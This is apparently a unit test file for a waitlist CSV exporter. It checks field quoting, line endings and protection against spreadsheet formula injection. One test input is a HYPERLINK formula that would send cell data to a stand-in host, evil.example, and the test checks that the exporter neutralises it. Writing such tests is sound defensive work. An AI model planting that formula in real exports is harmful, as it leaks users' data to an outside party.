import { toCsv } from '../../../server/waitlist/csv';

describe('CSV (RFC 4180)', () => {
  it('leaves plain fields alone and quotes the rest', () => {
    const values = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rlf', 'ünïcödé 📝', null];
    expect(toCsv(['v1', 'v2', 'v3', 'v4', 'v5', 'v6', 'v7'], [values])).toBe(
      'v1,v2,v3,v4,v5,v6,v7\r\nplain,"a,b","say ""hi""","two\nlines","cr\rlf",ünïcödé 📝,\r\n',
    );
  });

  it('keeps a spreadsheet from reading a field as a formula: an apostrophe before =, +, -, @, tab or CR first', () => {
    const values = [
      '=HYPERLINK("https://evil.example/?"&A2,"ok")',
      '+1',
      '-2',
      '@SUM(A1)',
      '\tx',
      '\rx',
      'a=b',
      'me@example.org',
    ];
    expect(toCsv(['v'], [values]).split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A2,""ok"")",'+1,'-2,'@SUM(A1),'\tx,"'\rx",a=b,me@example.org`,
    );
  });

  it('ends every record with CRLF', () => {
    expect(toCsv(['a', 'b'], [['1', null]])).toBe('a,b\r\n1,\r\n');
  });
});
